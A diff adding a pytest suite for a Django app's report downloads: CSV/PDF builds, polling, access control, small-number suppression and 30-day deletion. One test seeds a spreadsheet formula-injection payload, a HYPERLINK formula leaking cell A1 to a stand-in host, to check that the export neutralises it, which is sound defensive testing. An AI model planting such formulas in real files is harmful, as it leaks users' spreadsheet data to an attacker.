@@ -1,0 +1,292 @@
+"""Report downloads: asked for on the page, built by the `build_report` task, polled with htmx
+until ready, downloadable by the requester (and staff) only, CSV cells that spreadsheets would
+run neutralised, and deleted after 30 days."""
+
+import csv
+import datetime as dt
+import io
+import os
+from unittest import mock
+
+import pytest
+from django.core.files.base import ContentFile
+from django.urls import reverse
+from django.utils import timezone
+from pypdf import PdfReader
+
+from cohorts import tasks
+from cohorts.models import Cohort, Enrolment, EnrolmentStatus, ReportExport, ReportStatus
+from cohorts.report_exports import report_export_build, report_exports_delete_old
+from councils.models import Role
+from infuse.celery import app
+from tests.cohorts.participant_helpers import set_today
+from tests.cohorts.reports_data import TODAY, build_programme
+
+HX = {"HTTP_HX_REQUEST": "true"}
+
+
+@pytest.fixture
+def programme(monkeypatch, db):
+    set_today(monkeypatch, TODAY)
+    return build_programme()
+
+
+def ask(client, capture, fmt="csv", **filters):
+    """Ask for a download as the page does with htmx; the task runs when the request commits."""
+    with capture(execute=True):
+        response = client.post(reverse("report_export_create"), {"format": fmt, **filters}, **HX)
+    assert response.status_code == 200
+    return response, ReportExport.objects.latest("pk")
+
+
+def download(client, export) -> bytes:
+    response = client.get(reverse("report_export_download", args=[export.pk]))
+    assert response.status_code == 200
+    return b"".join(response.streaming_content)
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def pdf_text(data: bytes) -> str:
+    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
+
+
+def test_asking_for_a_csv_answers_a_line_that_polls_until_the_file_is_ready(
+    client, programme, funder, django_capture_on_commit_callbacks
+):
+    client.force_login(funder)
+    response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025", lab="data")
+    html = response.content.decode()
+    # The answer was rendered before the build: it says so and polls every 2 seconds.
+    assert 'hx-trigger="every 2s"' in html and "Waiting to start" in html
+    assert "HX-Request" in response["Vary"]
+    export.refresh_from_db()
+    assert export.status == ReportStatus.READY and export.requested_by == funder
+    assert export.filters == {"period": "fy-2025", "lab": "data"}
+    poll = client.get(reverse("report_export", args=[export.pk]), **HX)
+    html = poll.content.decode()
+    assert "hx-trigger" not in html  # ready: the answer no longer polls
+    assert reverse("report_export_download", args=[export.pk]) in html
+    assert "Download the CSV" in html
+    rows = csv_rows(download(client, export))
+    newport = next(row for row in rows if row[:2] == ["Data Lab", "Newport"])
+    assert newport[2:] == "<5 <5 0 <5 <5 <5 <5 <5 [c] [c] [c] [c]".split()
+    assert not any(row[:1] == ["Adaption Lab"] for row in rows)  # filtered to the Data Lab
+
+
+def test_the_funders_csv_holds_the_suppressed_figures_of_their_page(
+    client, programme, funder, django_capture_on_commit_callbacks
+):
+    client.force_login(funder)
+    _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
+    rows = csv_rows(download(client, export))
+    by_lab = {tuple(row[:2]): row[2:] for row in rows if len(row) > 10}
+    assert by_lab[("Data Lab", "Newport")][:2] == ["<5", "<5"]
+    assert by_lab[("Data Lab", "Cardiff")][:2] == ["[c]", "[c]"]
+    assert by_lab[("Data Lab", "Bridgend")][:2] == ["28", "25"]
+    assert by_lab[("Total", "")][:2] == ["77", "73"]
+    assert ["Period", "Financial year 2025–26"] in rows
+    assert ["Showing", "Whole programme, small numbers suppressed"] in rows
+    assert any(row and row[0] == "<5" for row in rows)  # the note on suppression
+
+
+def test_a_pdf_goes_to_the_pdf_queue_and_holds_the_figures(
+    client, programme, funder, django_capture_on_commit_callbacks
+):
+    client.force_login(funder)
+    with mock.patch.object(
+        tasks.build_report, "apply_async", wraps=tasks.build_report.apply_async
+    ) as sent:
+        _response, export = ask(client, django_capture_on_commit_callbacks, "pdf", period="fy-2025")
+    assert sent.call_args.kwargs.get("queue") == "pdf"
+    export.refresh_from_db()
+    assert export.status == ReportStatus.READY
+    data = download(client, export)
+    assert data.startswith(b"%PDF")
+    text = pdf_text(data)
+    for expected in ["Programme progress report", "Financial year 2025–26", "77", "<5", "[c]"]:
+        assert expected in text
+    assert "Definitions and disclosure control" in text
+    assert "Cardiff done" not in text
+
+
+def test_a_csv_goes_to_the_default_queue(
+    client, programme, funder, django_capture_on_commit_callbacks
+):
+    client.force_login(funder)
+    with mock.patch.object(
+        tasks.build_report, "apply_async", wraps=tasks.build_report.apply_async
+    ) as sent:
+        ask(client, django_capture_on_commit_callbacks, "csv")
+    assert "queue" not in sent.call_args.kwargs
+
+
+def test_without_javascript_asking_leads_to_the_downloads_own_page(
+    client, programme, funder, django_capture_on_commit_callbacks
+):
+    client.force_login(funder)
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(reverse("report_export_create"), {"format": "pdf"})
+    export = ReportExport.objects.get()
+    assert response.status_code == 302
+    assert response["Location"] == reverse("report_export", args=[export.pk])
+    page = client.get(response["Location"])
+    assert page.status_code == 200 and "Your report download" in page.content.decode()
+    assert "Download the PDF" in page.content.decode()
+
+
+def test_an_unknown_format_or_foreign_filter_is_refused(client, programme, lead):
+    client.force_login(lead)
+    assert client.post(reverse("report_export_create"), {"format": "xlsx"}).status_code == 404
+    response = client.post(reverse("report_export_create"), {"format": "csv", "council": "newport"})
+    assert response.status_code == 404
+    assert not ReportExport.objects.exists()
+
+
+@pytest.fixture
+def funders_export(programme, funder, django_capture_on_commit_callbacks, client):
+    client.force_login(funder)
+    _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
+    client.logout()
+    return export
+
+
+def test_only_the_requester_and_staff_may_see_or_download_an_export(
+    client, funders_export, make_user, lead, staff
+):
+    other_funder = make_user("other.funder@infuse.test", Role.FUNDER)
+    for outsider in (other_funder, lead):
+        client.force_login(outsider)
+        assert client.get(reverse("report_export", args=[funders_export.pk])).status_code == 404
+        url = reverse("report_export_download", args=[funders_export.pk])
+        assert client.get(url).status_code == 404
+    client.force_login(staff)
+    assert (
+        client.get(reverse("report_export_download", args=[funders_export.pk])).status_code == 200
+    )
+
+
+def test_a_download_that_is_not_ready_is_not_found(client, programme, funder):
+    export = ReportExport.objects.create(requested_by=funder, format="csv", filters={})
+    client.force_login(funder)
+    assert client.get(reverse("report_export_download", args=[export.pk])).status_code == 404
+    poll = client.get(reverse("report_export", args=[export.pk]), **HX).content.decode()
+    assert 'hx-trigger="every 2s"' in poll
+
+
+def test_building_twice_builds_once(programme, funder):
+    export = ReportExport.objects.create(requested_by=funder, format="csv", filters={})
+    first = report_export_build(export_id=export.pk)
+    again = report_export_build(export_id=export.pk)
+    assert first.status == again.status == ReportStatus.READY
+    assert again.file.name == first.file.name and again.finished_at == first.finished_at
+
+
+def test_a_build_left_running_by_a_dead_worker_is_taken_over_later(programme, funder):
+    long_ago = timezone.now() - dt.timedelta(hours=1)
+    export = ReportExport.objects.create(
+        requested_by=funder,
+        format="csv",
+        filters={},
+        status=ReportStatus.RUNNING,
+        created_at=long_ago,
+    )
+    assert report_export_build(export_id=export.pk).status == ReportStatus.READY
+    fresh = ReportExport.objects.create(
+        requested_by=funder, format="csv", filters={}, status=ReportStatus.RUNNING
+    )
+    assert report_export_build(export_id=fresh.pk).status == ReportStatus.RUNNING
+
+
+def test_filters_no_longer_available_fail_the_build_with_a_reason(programme, lead, newport):
+    export = ReportExport.objects.create(
+        requested_by=lead, format="csv", filters={"council": "cardiff"}
+    )
+    lead.council = newport  # the lead moved council after asking
+    lead.save()
+    built = report_export_build(export_id=export.pk)
+    assert built.status == ReportStatus.FAILED and "no longer available" in built.error
+    assert not built.file
+
+
+def test_the_lead_csv_neutralises_formulas_in_names_and_titles(
+    client, programme, lead, make_user, cardiff, django_capture_on_commit_callbacks
+):
+    officer = make_user(
+        "officer@cardiff.test",
+        council=cardiff,
+        name='=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
+    )
+    cohort = programme["cohorts"]["D1"]
+    Cohort.objects.filter(pk=cohort.pk).update(title="+SUM(1,2) cohort")
+    Enrolment.objects.create(
+        cohort=cohort,
+        user=officer,
+        status=EnrolmentStatus.ACTIVE,
+        enrolled_at=timezone.make_aware(dt.datetime(2025, 4, 15, 10)),
+    )
+    client.force_login(lead)
+    _response, export = ask(client, django_capture_on_commit_callbacks)
+    rows = csv_rows(download(client, export))
+    officer_row = next(row for row in rows if "officer@cardiff.test" in row)
+    assert officer_row[0] == '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
+    assert officer_row[2] == "'+SUM(1,2) cohort"
+    # Nothing in the whole file starts like a formula.
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_staff_csv_has_a_line_per_cohort(
+    client, programme, staff, django_capture_on_commit_callbacks
+):
+    client.force_login(staff)
+    _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
+    rows = csv_rows(download(client, export))
+    d1 = next(row for row in rows if row and row[0] == "D1 Data Lab cohort")
+    assert d1[1:5] == ["Data Lab", "Supportive Communities", "2025-05-06", "2025-06-10"]
+    assert d1[5:] == ["35", "33", "0", "26", "4", "25", "72%"]
+
+
+def test_exports_older_than_thirty_days_are_deleted_with_their_files(programme, funder, settings):
+    now = timezone.now()
+    old = ReportExport.objects.create(
+        requested_by=funder,
+        format="csv",
+        filters={},
+        status=ReportStatus.READY,
+        created_at=now - dt.timedelta(days=31),
+        file=ContentFile(b"a,b", name="reports/old.csv"),
+    )
+    recent = ReportExport.objects.create(
+        requested_by=funder,
+        format="csv",
+        filters={},
+        status=ReportStatus.READY,
+        created_at=now - dt.timedelta(days=29),
+        file=ContentFile(b"a,b", name="reports/recent.csv"),
+    )
+    old_path = old.file.path
+    assert tasks.delete_old_report_exports.apply().get() == 1
+    assert list(ReportExport.objects.all()) == [recent]
+    assert not (settings.MEDIA_ROOT / "reports" / "old.csv").exists()
+    assert not os.path.exists(old_path)
+    assert report_exports_delete_old() == 0
+
+
+def test_beat_deletes_old_exports_every_night():
+    entry = app.conf.beat_schedule["delete-old-report-exports"]
+    assert entry["task"] == "cohorts.tasks.delete_old_report_exports"
+
+
+def test_the_page_lists_my_recent_downloads_only(client, funders_export, make_user, funder):
+    other = make_user("other.funder@infuse.test", Role.FUNDER)
+    client.force_login(other)
+    assert (
+        f"report-export-{funders_export.pk}" not in client.get(reverse("reports")).content.decode()
+    )
+    client.force_login(funder)
+    html = client.get(reverse("reports")).content.decode()
+    assert f"report-export-{funders_export.pk}" in html and "Download the CSV" in html
